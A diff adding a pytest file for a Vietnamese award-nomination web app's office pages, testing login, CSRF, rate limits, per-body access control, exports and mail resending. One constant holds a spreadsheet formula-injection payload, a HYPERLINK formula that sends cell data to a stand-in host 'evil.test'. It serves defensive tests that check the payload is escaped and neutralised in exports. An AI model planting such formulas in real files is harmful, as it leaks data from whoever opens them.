@@ -1,0 +1,341 @@
+"""The office view: login, bodies, dossiers, exports and the outbox, through HTTP."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import zipfile
+
+import pytest
+from mail_fixtures import (  # noqa: F401  (smtp_server is a fixture)
+    OTHER_CALL,
+    OTHER_PLAN,
+    all_mails,
+    run_pass,
+    smtp_server,
+    submit_with_mails,
+)
+from openpyxl import load_workbook
+from sqlalchemy import select
+
+from forms_app.commands import create_user_command
+from forms_app.db import get_session
+from forms_app.office_models import MailState, OfficeUser, OutboxMail
+
+PASSWORD = "mật-khẩu-đủ-dài-2020"
+CAMPAIGN = "/van-phong/dot/ldld-quan-1-hoi-nghi-dien-hinh-tien-tien-2020/cap-thanh-pho/"
+OTHER_CAMPAIGN = f"/van-phong/dot/{OTHER_PLAN}/{OTHER_CALL}/"
+HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"Bấm vào đây")'
+
+
+def csrf_token(html: str) -> str:
+    return re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', html).group(1)
+
+
+def create_user(app, username: str, *issuers: str, password: str = PASSWORD):
+    args = [username, "--name", "Hoàng Thị Hà", "--password", password]
+    for issuer in issuers:
+        args += ["--issuer", issuer]
+    return app.test_cli_runner().invoke(create_user_command, args)
+
+
+def login(client, username: str, password: str = PASSWORD):
+    page = client.get("/van-phong/dang-nhap")
+    return client.post(
+        "/van-phong/dang-nhap",
+        data={
+            "username": username,
+            "password": password,
+            "csrf_token": csrf_token(page.text),
+        },
+    )
+
+
+@pytest.fixture
+def office_app(make_app):
+    app = make_app(MAIL_BACKEND="file", OUTBOX_SEND_AFTER_COMMIT=False)
+    assert create_user(app, "quan1", "ldld-quan-1").exit_code == 0
+    assert create_user(app, "longbien", "ldld-long-bien").exit_code == 0
+    submit_with_mails(app, "Q1AAAA22", "Nguyễn Thị Lan")
+    submit_with_mails(
+        app,
+        "Q1BBBB33",
+        HYPERLINK,
+        union="Công đoàn cơ sở Bệnh viện Quận 1",
+        category="doi-tuong-2",
+    )
+    submit_with_mails(
+        app, "LBCCCC44", "Trần Văn Long", plan=OTHER_PLAN, call=OTHER_CALL, category="ca-nhan"
+    )
+    return app
+
+
+@pytest.fixture
+def quan1(office_app):
+    client = office_app.test_client()
+    assert login(client, "quan1").status_code == 302
+    return client
+
+
+def test_office_create_user_stores_only_a_password_hash(office_app):
+    with office_app.app_context():
+        user = get_session().scalar(select(OfficeUser).where(OfficeUser.username == "quan1"))
+        assert user.issuer_keys == frozenset({"ldld-quan-1"})
+        assert user.password_hash.startswith("scrypt:")
+        assert PASSWORD not in user.password_hash
+
+
+def test_office_create_user_rejects_unknown_body_and_short_password(office_app):
+    unknown = create_user(office_app, "ai-do", "ldld-khong-co")
+    short = create_user(office_app, "ai-do", "ldld-quan-1", password="ngan")
+    twice = create_user(office_app, "quan1", "ldld-quan-1")
+
+    assert unknown.exit_code == 1
+    assert unknown.output == (
+        "Error: Không có cơ quan ldld-khong-co trong content/issuers.yml; các mã hợp lệ: "
+        "hdtdkt-long-bien, ldld-ba-dinh, ldld-lai-chau, ldld-long-bien, ldld-quan-1.\n"
+    )
+    assert short.output == "Error: Mật khẩu cần ít nhất 10 ký tự.\n"
+    assert twice.output == "Error: Tài khoản quan1 đã có.\n"
+
+
+def test_office_pages_need_a_login(office_app):
+    client = office_app.test_client()
+
+    for path in ("/van-phong/", CAMPAIGN, "/van-phong/ho-so/Q1AAAA22", "/van-phong/thu-gui"):
+        response = client.get(path)
+        assert response.status_code == 302
+        assert response.location.startswith("/van-phong/dang-nhap?next=")
+
+
+def test_office_login_wrong_password_is_refused(office_app):
+    client = office_app.test_client()
+
+    response = login(client, "quan1", "sai-mat-khau-roi")
+
+    assert response.status_code == 401
+    assert "Tên đăng nhập hoặc mật khẩu không đúng." in response.text
+    assert client.get("/van-phong/").status_code == 302
+
+
+def test_office_login_is_rate_limited_per_address(make_app):
+    app = make_app(MAIL_BACKEND="file", OFFICE_LOGIN_LIMIT=3, OFFICE_LOGIN_WINDOW=600)
+    create_user(app, "quan1", "ldld-quan-1")
+    client = app.test_client()
+
+    wrong = [login(client, "quan1", f"sai-mat-khau-{i}").status_code for i in range(3)]
+    blocked = login(client, "quan1")
+
+    assert wrong == [401, 401, 401]
+    assert blocked.status_code == 429
+    assert "Đăng nhập sai quá nhiều lần từ địa chỉ này. Hãy thử lại sau 10 phút." in blocked.text
+    assert client.get("/van-phong/").status_code == 302
+
+
+def test_office_login_without_csrf_token_is_refused(office_app):
+    client = office_app.test_client()
+
+    response = client.post("/van-phong/dang-nhap", data={"username": "quan1", "password": PASSWORD})
+
+    assert response.status_code == 400
+    assert client.get("/van-phong/").status_code == 302
+
+
+def test_office_account_lists_only_its_bodies_campaigns(quan1):
+    page = quan1.get("/van-phong/").text
+
+    assert "Liên đoàn Lao động quận 1" in page
+    assert "ĐỐI TƯỢNG VÀ TIÊU CHÍ KHEN CẤP THÀNH PHỐ" in page
+    assert "Long Biên" not in page
+
+
+def test_office_campaign_lists_its_nominations_escaped(quan1):
+    page = quan1.get(CAMPAIGN).text
+
+    assert "Nguyễn Thị Lan" in page
+    assert "=HYPERLINK(&#34;http://evil.test/?x=&#34;&amp;A1,&#34;Bấm vào đây&#34;)" in page
+    assert "Trần Văn Long" not in page
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        OTHER_CAMPAIGN,
+        f"{OTHER_CAMPAIGN}danh-sach.xlsx",
+        f"{OTHER_CAMPAIGN}danh-sach.csv",
+        f"{OTHER_CAMPAIGN}ho-so.zip",
+        "/van-phong/ho-so/LBCCCC44",
+        "/van-phong/ho-so/lbcccc44",
+        "/van-phong/ho-so/LBCCCC44/ban-1/pdf",
+        "/van-phong/ho-so/LBCCCC44/ban-1/docx",
+        "/van-phong/ho-so/LBCCCC44/ban-1/anh",
+        "/van-phong/ho-so/KHONGCO9/ban-1/pdf",
+        "/van-phong/ho-so/Q1AAAA22/ban-2/pdf",
+        "/van-phong/ho-so/Q1AAAA22/ban-1/exe",
+        "/van-phong/dot/khong-co/cap-thanh-pho/",
+    ],
+)
+def test_office_other_bodies_dossiers_answer_404(quan1, path):
+    assert quan1.get(path).status_code == 404
+
+
+def test_office_other_bodies_mail_cannot_be_resent(office_app, quan1):
+    with office_app.app_context():
+        other = get_session().scalars(
+            select(OutboxMail.id).where(OutboxMail.subject.contains("LBCCCC44"))
+        )
+        ids = list(other)
+    token = csrf_token(quan1.get("/van-phong/thu-gui").text)
+
+    statuses = [
+        quan1.post(f"/van-phong/thu-gui/{i}/gui-lai", data={"csrf_token": token}).status_code
+        for i in ids
+    ]
+
+    assert len(ids) == 2
+    assert statuses == [404, 404]
+    assert "LBCCCC44" not in quan1.get("/van-phong/thu-gui").text
+
+
+def test_office_downloads_own_files(quan1):
+    pdf = quan1.get("/van-phong/ho-so/Q1AAAA22/ban-1/pdf")
+    docx = quan1.get("/van-phong/ho-so/Q1AAAA22/ban-1/docx")
+
+    assert pdf.status_code == 200
+    assert pdf.data.startswith(b"%PDF-")
+    assert pdf.headers["Content-Disposition"] == (
+        "attachment; filename=Tom-tat-thanh-tich-Nguyen-Thi-Lan-Q1AAAA22-ban-1.pdf"
+    )
+    assert pdf.headers["Cache-Control"] == "no-store"
+    assert docx.data.startswith(b"PK")
+
+
+def test_office_nominee_list_xlsx_has_columns_and_text_cells(quan1):
+    response = quan1.get(f"{CAMPAIGN}danh-sach.xlsx")
+
+    sheet = load_workbook(io.BytesIO(response.data)).active
+    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=4)]
+    assert sheet["A1"].value == "DANH SÁCH TRÍCH NGANG"
+    assert rows[0] == [
+        "STT",
+        "Họ và tên",
+        "Năm sinh (Nam)",
+        "Năm sinh (Nữ)",
+        "Chức vụ và đơn vị",
+        "Đối tượng",
+        "Hình thức đề nghị",
+        "Tóm tắt thành tích",
+        "Ghi chú",
+    ]
+    assert rows[1] == [
+        1,
+        "Nguyễn Thị Lan",
+        None,
+        1985,
+        "Tổ trưởng tổ sản xuất, Công ty TNHH Cơ khí Sài Gòn",
+        "Đối tượng 3",
+        "Bằng khen của Liên đoàn Lao động thành phố",
+        "Ba sáng kiến cải tiến kỹ thuật, làm lợi 75 triệu đồng.",
+        "Mã hồ sơ Q1AAAA22; CĐCS: Công đoàn cơ sở Công ty TNHH Cơ khí Sài Gòn",
+    ]
+    assert rows[2][1] == HYPERLINK
+    assert rows[2][5] == "Đối tượng 2"
+    name_cell = sheet.cell(row=6, column=2)
+    assert (name_cell.data_type, name_cell.quotePrefix) == ("s", True)
+    assert len(rows) == 3
+
+
+def test_office_nominee_list_csv_is_utf8_bom_and_neutralised(quan1):
+    response = quan1.get(f"{CAMPAIGN}danh-sach.csv")
+
+    assert response.data.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
+    assert rows[0][:4] == ["STT", "Họ và tên", "Năm sinh (Nam)", "Năm sinh (Nữ)"]
+    assert rows[1][:4] == ["1", "Nguyễn Thị Lan", "", "1985"]
+    assert rows[2][1] == "'" + HYPERLINK
+    assert len(rows) == 3
+
+
+def test_office_filters_by_union_and_category(quan1):
+    by_union = quan1.get(CAMPAIGN, query_string={"cdcs": "Công đoàn cơ sở Bệnh viện Quận 1"})
+    by_category = quan1.get(CAMPAIGN, query_string={"doi_tuong": "doi-tuong-3"})
+    by_date = quan1.get(CAMPAIGN, query_string={"tu_ngay": "2020-02-11"})
+    exported = quan1.get(f"{CAMPAIGN}danh-sach.csv", query_string={"doi_tuong": "doi-tuong-2"})
+
+    assert "1 hồ sơ." in by_union.text
+    assert "Q1BBBB33" in by_union.text
+    assert "Q1AAAA22" not in by_union.text
+    assert "Q1AAAA22" in by_category.text
+    assert "Q1BBBB33" not in by_category.text
+    assert "0 hồ sơ." in by_date.text
+    assert len(list(csv.reader(io.StringIO(exported.data.decode("utf-8-sig"))))) == 2
+
+
+def test_office_zip_holds_every_dossier_of_the_campaign(quan1):
+    response = quan1.get(f"{CAMPAIGN}ho-so.zip")
+
+    archive = zipfile.ZipFile(io.BytesIO(response.data))
+    names = sorted(archive.namelist())
+    assert names == [
+        "001-Nguyen-Thi-Lan-Q1AAAA22/Anh-Nguyen-Thi-Lan.jpg",
+        "001-Nguyen-Thi-Lan-Q1AAAA22/Tom-tat-thanh-tich-Nguyen-Thi-Lan.docx",
+        "001-Nguyen-Thi-Lan-Q1AAAA22/Tom-tat-thanh-tich-Nguyen-Thi-Lan.pdf",
+        "002-HYPERLINK-http-evil-test-x-A1-Bam-vao-day-Q1BBBB33/Anh-HYPERLINK-http-evil-test-x-A1-Bam-vao-day.jpg",
+        "002-HYPERLINK-http-evil-test-x-A1-Bam-vao-day-Q1BBBB33/Tom-tat-thanh-tich-HYPERLINK-http-evil-test-x-A1-Bam-vao-day.docx",
+        "002-HYPERLINK-http-evil-test-x-A1-Bam-vao-day-Q1BBBB33/Tom-tat-thanh-tich-HYPERLINK-http-evil-test-x-A1-Bam-vao-day.pdf",
+        "danh-sach-trich-ngang.csv",
+        "danh-sach-trich-ngang.xlsx",
+    ]
+    assert archive.read(names[2]).startswith(b"%PDF-")
+
+
+def test_office_outbox_shows_failed_mail_and_resend_delivers(make_app, smtp_server):  # noqa: F811
+    app = make_app(**smtp_server.config(), OUTBOX_SEND_AFTER_COMMIT=False)
+    create_user(app, "quan1", "ldld-quan-1")
+    submit_with_mails(app, "FAIL2345", "Lý Thị Ngọc")
+    smtp_server.handler.reply = "550 5.7.1 Từ chối nhận thư"
+    for hours in range(3):
+        run_pass(app, now=_hours_later(hours))
+    assert [m.state for m in all_mails(app)] == [MailState.FAILED] * 2
+    client = app.test_client()
+    login(client, "quan1")
+
+    page = client.get("/van-phong/thu-gui", query_string={"trang_thai": "failed"}).text
+    mail_id = all_mails(app)[0].id
+    smtp_server.handler.reply = None
+    resent = client.post(
+        f"/van-phong/thu-gui/{mail_id}/gui-lai",
+        data={"csrf_token": csrf_token(page), "back": "/van-phong/ho-so/FAIL2345"},
+    )
+    report = run_pass(app)
+
+    assert page.count('<td class="state-failed">Gửi thất bại') == 2
+    assert page.count("550 5.7.1 Từ chối nhận thư") == 2
+    assert resent.status_code == 302
+    assert resent.location == "/van-phong/ho-so/FAIL2345"
+    assert report.sent == 1
+    assert [m.state for m in all_mails(app)] == [MailState.SENT, MailState.FAILED]
+    assert list(smtp_server.handler.message_ids().values()) == [1]
+    detail = client.get("/van-phong/ho-so/FAIL2345").text
+    assert detail.count('<td class="state-sent">Đã gửi') == 1
+    assert detail.count('<td class="state-failed">Gửi thất bại') == 1
+
+
+def test_office_resend_without_csrf_token_is_refused(make_app):
+    app = make_app(MAIL_BACKEND="file", OUTBOX_SEND_AFTER_COMMIT=False)
+    create_user(app, "quan1", "ldld-quan-1")
+    submit_with_mails(app, "NOCS2345", "Lý Văn Hùng")
+    client = app.test_client()
+    login(client, "quan1")
+    mail_id = all_mails(app)[0].id
+
+    response = client.post(f"/van-phong/thu-gui/{mail_id}/gui-lai")
+
+    assert response.status_code == 400
+
+
+def _hours_later(hours: int):
+    import datetime as dt
+
+    return dt.datetime.now(dt.UTC) + dt.timedelta(hours=hours)
